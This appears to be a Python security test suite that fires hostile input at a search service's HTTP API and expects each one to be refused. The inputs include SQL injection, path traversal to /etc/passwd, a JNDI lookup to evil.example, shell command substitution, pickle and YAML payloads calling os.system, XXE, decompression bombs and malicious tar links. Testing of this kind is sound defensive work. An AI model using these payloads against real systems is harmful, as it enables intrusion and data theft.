"""What is sent: values in paths and queries, keys, bodies, archives."""

from __future__ import annotations

import gzip
import hashlib
import io
import json
import tarfile
import zipfile
from collections.abc import Iterator
from typing import Any
from urllib.parse import quote

from tests.archive_corpus import CORPUS, OUTSIDE, Row, special, tar, told

from .callers import kept_archive
from .core import Attack, Scene, attempts, bound, expect, statuses

_INJECTED = (
    "' OR '1'='1",
    "'; DROP TABLE searches; --",
    '" UNION SELECT sha256 FROM tokens --',
    "1; ATTACH DATABASE '/tmp/x' AS x",
    "%' ESCAPE '",
    "../../service.db",
    "..%2f..%2fservice.db",
    "\\..\\..",
    "{{7*7}}",
    "${jndi:ldap://evil.example}",
    "$(touch /tmp/autotune-attack)",
    "\0",
    "\u202e0",
    "\ud83d\ude00" * 40,
    "9" * 400,
    "-1",
    "1e999",
    "nan",
    "inf",
    "0x10",
    "\u0661\u0662",
)
_PLACES = {
    "an id": ("GET", "/v1/searches/{}", (404, 422)),
    "an id of events": ("GET", "/v1/searches/{}/events", (404, 422)),
    "an id to delete": ("DELETE", "/v1/searches/{}", (404, 405, 422)),
    "a trial's number": ("GET", "/v1/searches/ID/trials/{}/log", (404, 422)),
    "a token's id": ("DELETE", "/v1/tokens/{}", (403, 404, 405, 422)),
    "a hash": ("PUT", "/v1/archives/{}", (404, 405, 422)),
    "a state": ("GET", "/v1/searches?state={}", (422,)),
    "before": ("GET", "/v1/searches?before={}", (422,)),
    "a limit": ("GET", "/v1/searches?limit={}", (422,)),
    "an owner": ("GET", "/v1/searches?owner={}", (200, 422)),
    "a part of a name": ("GET", "/v1/searches?name={}", (200, 422)),
    "wait": ("GET", "/v1/searches/ID?wait={}", (422,)),
    "a file of the page": ("GET", "/static/{}", (404,)),
}


def _in_place(the: Scene, place: str, value: str) -> str | None:
    method, path, allowed = _PLACES[place]
    path = path.replace("ID", the.victims["main"]["SUCCEEDED"]).format(quote(value.encode("utf-8", "replace"), safe=""))
    answer = the.ask(method, path, "mallory")
    if value == "\u0661\u0662" and place in ("a limit", "before", "wait"):
        return expect(answer, 200, 422)  # digits are digits
    if answer.status_code == 200 and answer.json() != []:
        return f"200: {answer.text[:99]}"
    return expect(answer, *allowed)


def _in_header(the: Scene, name: str, value: str) -> str | None:
    """Of a read: it changes nothing of what is answered, or is refused."""
    path = f"/v1/searches/{the.victims['main']['SUCCEEDED']}" + ("/events" if name == "Last-Event-ID" else "")
    sent = value.encode("utf-8", "replace").replace(b"\0", b"%00")
    answer = the.ask("GET", path, "mallory", headers={name: sent})  # type: ignore[dict-item]
    return expect(answer, 200, 422)


def _key(the: Scene, value: str) -> str | None:
    """A key is a value, whatever is in it: one search of one's own, or a refusal."""
    body = {"task": "model.py", "archive": kept_archive(the)}
    sent: Any = {"Idempotency-Key": value.encode("utf-8", "replace").replace(b"\0", b"%00")}
    first, again = (the.ask("POST", "/v1/searches", "mallory", headers=sent, json=body) for _ in range(2))
    if first.status_code == 422:
        return None
    path = f"/v1/searches/{first.json()['id']}"
    the.ask("POST", f"{path}/cancel", "mallory", json={"mode": "now"})
    the.ask("DELETE", path, "mallory")
    return expect(first, 201) or expect(again, 200)


_OUT = (
    "/static/../page.py",
    "/static/..%2fpage.py",
    "/static/%2e%2e/%2e%2e/app.py",
    "/static/....//page.py",
    "/static//etc/passwd",
    "/static/%2fetc%2fpasswd",
    "/static/..\\page.py",
    "/static/page.js%00.css",
    "/static/page.js/../../app.py",
    "/../../etc/passwd",
    "//etc/passwd",
    "/v1/archives/../../service.db",
    "/v1/searches/ID/trials/../../../service.db/log",
    "/v1/searches/ID/trials/0%2f..%2f..%2fdriver.log/log",
    "/v1/searches/..%2f..%2fservice.db/log",
    "/.git/config",
    "/v1/../healthz/../v1/tokens",
    "/v1/searches/ID/log?path=../../service.db",
    "/openapi.json/../service.db",
    "/docs",
    "/redoc",
    "/debug",
    "/v1/tokens;x=1",
    "/v1//tokens",
    "/V1/TOKENS",
    "/v1/tokens/",
)


def _path(the: Scene, path: str) -> str | None:
    """As it is, by a reader: nothing but what routes give."""
    path = path.replace("ID", the.victims["main"]["SUCCEEDED"])
    head = f"GET {path} HTTP/1.1\r\nHost: x\r\nAuthorization: Bearer {the.main.tokens['rita']}\r\nConnection: close\r\n"
    answer = the.raw(head.encode() + b"\r\n")
    found = [each for each in (b"root:", b"SQLite format", b"import annotations", b"sha256") if each in answer]
    fine = (200, 307, 400, 403, 404, 405, 422) if path.endswith(("service.db", "/")) else (400, 403, 404, 405, 422)
    return None if not found and set(statuses(answer)) <= {*fine} else f"{found} {answer[:200]!r}"


def values() -> Iterator[Attack]:
    """SQL, paths, odd numbers and letters wherever a value goes: refused, or a plain value."""
    for value in _INJECTED:
        shown = value.encode("ascii", "backslashreplace").decode()[:40]
        for place in _PLACES:
            yield Attack(f"{place}: {shown}", bound(_in_place, place=place, value=value))
        for name in ("If-None-Match", "Last-Event-ID", "Accept"):
            yield Attack(f"{name}: {shown}", bound(_in_header, name=name, value=value))
        yield Attack(f"Idempotency-Key: {shown}", bound(_key, value=value))
    yield from attempts(_path, _OUT, "GET {}")


_SEARCH: dict[str, Any] = {
    "a path above": {"task": "../model.py"},
    "a path above, within": {"task": "a/../../model.py"},
    "an absolute path": {"task": "/etc/passwd"},
    "an option": {"task": "--help"},
    "one dash": {"task": "-m"},
    "no task": {"task": None},
    "task and command": {"command": ["python"]},
    "a line break": {"task": "model.py\n--executor=ray"},
    "a null": {"task": "model.py\0"},
    "a backslash": {"task": "..\\model.py"},
    "letters from right to left": {"task": "model\u202eyp.py"},
    "a number": {"task": 1},
    "a list": {"task": ["model.py"]},
    "a long name": {"task": "m" * 10_000},
    "an unknown archive": {"archive": "0" * 64},
    "an archive that is a path": {"archive": "../" * 20 + "etc/pa"},
    "an archive in capitals": {"archive": "A" * 64},
    "no archive": {"archive": None},
    "a folder": {"archive": None, "folder": "/etc"},
    "the service's folder": {"archive": None, "folder": "{state}"},
    "a folder above": {"archive": None, "folder": "/tmp/../etc"},
    "both": {"folder": "/etc"},
    "a space above": {"space": "../space.yaml"},
    "an absolute space": {"space": "/etc/passwd"},
    "a space that is an option": {"space": "--storage=sqlite:////tmp/x"},
    "another storage": {"storage": "sqlite:////tmp/x"},
    "another output": {"output": "/tmp/x"},
    "another progress": {"progress": "/tmp/x"},
    "an executor": {"executor": "ray"},
    "an address": {"address": "evil.example:6379"},
    "measurements": {"measurements": "sqlite:////tmp/x"},
    "resume": {"resume": True},
    "json": {"json": True},
    "weights": {"keep_weights": True},
    "a budget in words": {"budget": "much"},
    "a budget below nothing": {"budget": "-1GiB"},
    "a budget without end": {"budget": "1e999GiB"},
    "a budget that is no number": {"budget": "nanGiB"},
    "no trials": {"trials": 0},
    "trials without end": {"trials": 10**9},
    "trials below nothing": {"trials": -1},
    "trials of many digits": {"trials": 10**400},
    "a trial and a half": {"trials": 1.5},
    "priority above all": {"priority": 101},
    "priority below all": {"priority": -1},
    "a name of two lines": {"name": "a\nb"},
    "a name with an escape": {"name": "a\x1b[2J"},
    "a name with a null": {"name": "a\0"},
    "a name from right to left": {"name": "a\u202e"},
    "a name of spaces": {"name": "   "},
    "a long search name": {"name": "n" * 201},
    "half a letter": {"name": "\ud800"},
    "another device": {"device": "tpu"},
    "a device of two lines": {"device": "cuda:\n"},
    "a command with a null": {"task": None, "command": ["python", "a\0b"]},
    "a command without end": {"task": None, "command": ["x"] * 201},
    "a long word": {"task": None, "command": ["x" * 5000]},
    "a command and a folder": {"task": None, "archive": None, "folder": "/etc", "command": ["python"]},
    "a seed of many digits": {"seed": 10**400},
    "a time without end": {"max_time": "1e999h"},
    "no time": {"max_time": "-1s"},
    "an unknown field": {"__class__": "x"},
    "a prototype": {"__proto__": {"role": "admin"}},
}
_OTHERS: tuple[tuple[str, str, str, Any], ...] = (
    *(("POST", "/cancel", "mallory", body) for body in ({"mode": "soon"}, {"mode": 1}, {"mode": ["now"]}, {"x": 1})),
    *(("POST", "/cancel", "mallory", body) for body in ([], "now", None, 1)),
    *(("PATCH", "", "mallory", {"priority": value}) for value in (101, -1, "high", None, 1.5, 10**400, [1])),
    *(("PATCH", "", "mallory", body) for body in ({}, {"owner": "mallory", "priority": 1}, {"state": "QUEUED"}, [])),
    *(("POST", "/resume", "mallory", {"trials": value}) for value in (0, -1, 10**9, "x", 1.5, 10**400)),
    *(("POST", "/resume", "mallory", {"max_time": value}) for value in ("-1s", "1e999h", "x", [], {"a": 1})),
    *(("POST", "/resume", "mallory", {name: "x"}) for name in ("task", "archive", "budget", "folder")),
)
_TOKENS: tuple[Any, ...] = (
    *({"name": name, "role": "read"} for name in ("", "a\nb", "a\0", "x" * 101, "a<b>", "a;b", 'a"', "a/b", 1, None)),
    *({"name": "n", "role": role} for role in ("root", "", None, 3, ["admin"], "ADMIN")),
    *({"name": "n", "role": "read", "expires": when} for when in ("soon", "1e999d", "nan", "-", "9" * 30, 5)),
    *({"name": "n", "role": "read", **more} for more in ({"id": "0" * 8}, {"token": "atn_x"}, {"sha256": "0" * 64})),
)
_MALFORMED = {
    "nothing": b"",
    "no JSON": b"{",
    "a word": b"null",
    "a list": b"[]",
    "brackets": b"[" * 200_000,
    "braces": b'{"a":' * 100_000,
    "digits": b'{"trials": ' + b"9" * 100_000 + b"}",
    "not a number": b'{"priority": NaN}',
    "infinity": b'{"priority": -Infinity}',
    "a field twice": b'{"mode": "finish", "mode": "soon"}',
    "UTF-16": '{"mode": "now"}'.encode("utf-16"),
    "half a letter": b'{"mode": "\\ud800"}',
    "no UTF-8": b'{"mode": "\xff\xfe"}',
    "a mark of bytes": b"\xef\xbb\xbf{}x",
    "YAML": b"!!python/object/apply:os.system ['touch /tmp/autotune-attack']",
    "XML": b'<!DOCTYPE x [<!ENTITY y SYSTEM "file:///etc/passwd">]><x>&y;</x>',
    "a pickle": b"cos\nsystem\n(S'touch /tmp/autotune-attack'\ntR.",
    "gzip": gzip.compress(b'{"mode": "now"}'),
}
_TAKING = (("POST", "/v1/searches"), ("POST", "/session"), ("PATCH", "/v1/searches/{id}"), ("POST", "/v1/tokens"))


def _search(the: Scene, change: dict[str, Any]) -> str | None:
    body = {"task": "model.py", "archive": kept_archive(the), **change}
    text = json.dumps(body).replace("{state}", str(the.main.state))
    headers = {"Content-Type": "application/json"}
    return expect(the.ask("POST", "/v1/searches", "mallory", content=text.encode(), headers=headers), 400, 422)


def _own(the: Scene) -> str:
    """One of mallory's own, which has ended."""
    rows = the.ask("GET", "/v1/searches?limit=500", "mallory").json()
    if found := [row["id"] for row in rows if row["owner"] == "mallory"]:
        return str(found[0])
    body = {"task": "model.py", "archive": kept_archive(the), "name": "own"}
    return str(the.ask("POST", "/v1/searches", "mallory", json=body).json()["id"])


def _other(the: Scene, method: str, what: str, who: str, body: Any) -> str | None:
    return expect(the.ask(method, f"/v1/searches/{_own(the)}{what}", who, json=body), 422)


def _token(the: Scene, body: Any) -> str | None:
    return expect(the.ask("POST", "/v1/tokens", "eve", json=body), 422)


def _bytes(the: Scene, method: str, path: str, data: bytes) -> str | None:
    headers = {"Content-Type": "application/json"}
    answer = the.ask(method, path.format(id=_own(the)), "eve", content=data, headers=headers)
    return expect(answer, 400, 422)


def _kind(the: Scene, kind: str) -> str | None:
    """A body that says that it is something else, or packed, is not taken as JSON of a search."""
    name, _, packed = kind.partition(" packed ")
    headers = {"Content-Type": name} | ({"Content-Encoding": packed} if packed else {})
    data = gzip.compress(bytes(2**24)) if packed else b"task=model.py"
    return expect(the.ask("POST", "/v1/searches", "mallory", content=data, headers=headers), 400, 415, 422)


def bodies() -> Iterator[Attack]:
    """Bodies of searches, changes and tokens that nobody means: refused in words."""
    yield from attempts(_search, _SEARCH, "submit: {}")
    for method, what, who, body in _OTHERS:
        words = json.dumps(body)[:60]
        yield Attack(f"{method} {what} {words}", bound(_other, method=method, what=what, who=who, body=body))
    for token in _TOKENS:
        yield Attack(f"token {json.dumps(token)[:60]}", bound(_token, body=token))
    for method, path in _TAKING:
        for name, data in _MALFORMED.items():
            yield Attack(f"{method} {path}: {name}", bound(_bytes, method=method, path=path, data=data))
    kinds = ("application/x-www-form-urlencoded", "text/plain", "application/x-yaml", "application/x-python-pickle")
    yield from attempts(_kind, (*kinds, *(f"application/json packed {how}" for how in ("gzip", "br", "deflate"))))


def _zip_with(name: str) -> bytes:
    packed = io.BytesIO()
    with zipfile.ZipFile(packed, "w") as file:
        file.writestr(name, "x")
    return packed.getvalue()


_BOMB = gzip.compress(tar("x")[:512].replace(b"00000000001", b"20000000000") + bytes(2**26), 1)
MORE = {
    "a member of 2 GiB": Row(_BOMB),
    "a bomb within a bomb": Row(gzip.compress(gzip.compress(bytes(2**26), 9), 9)),
    "a zip": Row(_zip_with("../x")),
    "a tar of a tar with links": Row(tar("inner.tar", body=tar(special(tarfile.SYMTYPE))), ("inner.tar",)),
    "letters from right to left": Row(tar("model\u202eyp.py")),
    "a separator of lines": Row(tar("a\u2028b")),
    "a name without width": Row(tar("a\u200bb")),
    "a path that starts with two dots": Row(tar("..x"), ("..x",)),
    "three dots": Row(tar(".../x"), (".../x",)),
    "a drive": Row(tar("C:\\x")),
    "a share": Row(tar("\\\\host\\x")),
    "an option": Row(tar("-rf"), ("-rf",)),
    "words of a shell": Row(tar("$(touch x)"), ("$(touch x)",)),
    "the driver's folder": Row(tar(".autotune/x"), (".autotune/x",)),
    "extended header: a link": Row(told(linkpath="/etc/passwd"), ("x",)),
    "extended header: an owner": Row(told(uid="0", uname="root"), ("x",)),
    "extended header: a long path": Row(told(path="a/" * 300 + "b")),
    "extended header: a null": Row(told(path="a\0b")),
    "a link that says that it is a file": Row(tar(special(tarfile.REGTYPE, target="/etc/passwd")), ("x",)),
    "a link with a body": Row(special(tarfile.SYMTYPE, size=512).tobuf(tarfile.GNU_FORMAT) + bytes(1024)),
    "a long link": Row(special(tarfile.GNUTYPE_LONGLINK, size=512).tobuf(tarfile.GNU_FORMAT) + b"/" * 1024),
    "a multi-volume": Row(special(b"M").tobuf(tarfile.GNU_FORMAT) + bytes(1024)),
    "a volume's name": Row(special(b"V").tobuf(tarfile.GNU_FORMAT) + bytes(1024)),
    "a dump of folders": Row(special(b"D").tobuf(tarfile.GNU_FORMAT) + bytes(1024)),
    "a folder named as its parent": Row(tar(special(tarfile.DIRTYPE, "..")) + tar("x")),
    "a checksum that is wrong": Row(tar("x")[:148] + b"00000000" + tar("x")[156:]),
    "a sum of sizes over all": Row(gzip.compress(b"".join(tar(f"{n}")[:512] for n in range(5)), 1)),
    "HTML": Row(b"<html><script>alert(1)</script></html>"),
    "a pickle": Row(b"\x80\x04cos\nsystem\n(S'touch /tmp/autotune-attack'\ntR."),
}


def _put(the: Scene, row: Row) -> str | None:
    """Refused, and nothing is kept; or kept, and nothing is outside."""
    sha256 = hashlib.sha256(row.data).hexdigest()
    answer = the.ask("PUT", f"/v1/archives/{sha256}", "mallory", content=row.data)
    allowed = (422,) if row.kept is None else (200, 201)
    archives = the.main.state / "archives"
    if said := expect(answer, *allowed):
        return said
    if [*archives.glob(".*")] or (archives / sha256).exists() != (row.kept is not None):
        return f"left: {[each.name for each in archives.iterdir()][:5]}"
    return "something is outside" if OUTSIDE.exists() else None


def _as_another(the: Scene, sha256: str) -> str | None:
    """Under a name that is not its hash."""
    data = gzip.compress(tar("model.py", body=sha256.encode()))
    path = f"/v1/archives/{quote(sha256, safe='')}"
    return expect(the.ask("PUT", path, "mallory", content=data), 404, 405, 422)


def archives() -> Iterator[Attack]:
    """Archives that nobody should send: refused, or kept within their folder."""
    for name, row in {**CORPUS, **MORE}.items():
        yield Attack(name, bound(_put, row=row))
    names = ("0" * 64, "a" * 63, "A" * 64, "../" * 21 + "x", "/etc/passwd", "." * 64, "0" * 63 + "\0", "home", "*")
    yield from attempts(_as_another, names, "under the hash {}")
